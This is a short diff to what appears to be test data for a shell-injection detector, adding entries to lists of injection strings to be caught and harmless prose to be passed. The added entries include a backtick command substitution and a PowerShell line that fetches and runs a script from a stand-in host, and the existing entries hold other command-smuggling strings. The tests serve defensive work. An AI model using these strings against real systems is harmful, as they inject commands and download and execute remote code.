@@ -41,6 +41,8 @@ TOKENS = {
     "comment": (b"ls # x ; y", "p#"),
 }
 BREAK_OUT = {
+    "substitution at the end of words": b"hello dear `id`",
+    "parenthesis behind": b";iex (iwr http://a.example/x.ps1)",
     "semicolon": b"1; cat /etc/hosts",
     "pipe": b"x|id",
     "ampersand before": b"& net view",
@@ -53,6 +55,7 @@ BREAK_OUT = {
     "unknown program with options": b"; tool --exec x",
 }
 TEXTS = {
+    "commands quoted in a sentence": b"what does `ls` mean, and where is `pwd` used?",
     "list of words": b"cats; dogs | birds & more",
     "prose with commands": b"Find the time; sort them out, or kill it & more.",
     "titles": b"Python | Perl | Ruby - jobs",
